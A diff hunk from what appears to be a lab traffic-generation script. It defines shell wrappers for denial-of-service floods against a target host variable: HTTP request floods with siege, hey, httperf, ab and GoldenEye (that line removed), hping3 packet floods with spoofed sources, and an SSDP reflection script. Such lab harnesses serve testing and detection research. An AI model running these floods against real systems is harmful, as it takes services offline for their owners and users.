@@ -23,7 +23,6 @@ tool siege_flood dos-flood a2 $WEB; siege_flood() { (cd "$LAB_DIR" && HOME=$LAB_
 tool hey_flood dos-flood a1 $WEB; hey_flood() { on 20 hey -n 4000 -c 50 -disable-keepalive http://$WEB/team.html; }
 tool httperf_flood dos-flood a1 $WEB; httperf_flood() { on 30 httperf --hog --server $WEB --uri /team.html --num-conn 3000 --rate 500 --timeout 3; }
 tool ab_tls_flood dos-flood a1 $WEB; ab_tls_flood() { on 30 ab -q -r -s 5 -n 2500 -c 30 https://$WEB/team.html; }
-tool goldeneye_flood dos-flood a3 $WEB; goldeneye_flood() { (cd "$LAB_DIR" && on 12 goldeneye http://$WEB/ -w 3 -s 25 -m random); }
 tool hping_fin dos-flood a1 $WEB; hping_fin() { on 20 hping3 -q -F -p 80 -c 5000 -i u1000 $WEB; }
 tool hping_synack dos-flood a2 $WEB -; hping_synack() { on 20 hping3 -q -S -A --rand-source -s 443 -p ++2000 -c 5000 -i u1000 $WEB; }
 tool ssdp_reflect dos-flood a1 $WEB -; ssdp_reflect() { on 20 python3 "$LAB_HOME/tools/reflect.py" $WEB 1900 600 5; }
